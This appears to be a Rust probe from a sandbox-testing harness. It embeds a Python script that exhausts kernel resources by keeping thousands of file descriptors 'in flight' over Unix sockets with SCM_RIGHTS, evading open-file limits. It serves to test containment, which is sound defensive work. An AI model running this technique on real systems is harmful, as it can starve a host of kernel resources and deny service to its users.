//! Descriptors sent and never received, which no process holds and no limit on open files counts.

use crate::harness::{Probe, Risk};

pub(crate) const PROBE: Probe = Probe::new("descriptors_in_flight", Risk::Exhaustion, ATTACK);

const ATTACK: &str = r#"
import array
import socket

ENOUGH = 2000
sent = 0
file = os.open("/dev/null", os.O_RDONLY)
pairs = []
try:
    while sent < ENOUGH:
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.setblocking(False)
        pairs.append((ours, theirs))
        try:
            while sent < ENOUGH:
                ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file] * 250))])
                sent += 250
        except BlockingIOError:
            pass
except OSError as error:
    held(f"{name(error.errno)} with {sent} in flight")
breached(f"{sent} descriptors in flight")
"#;
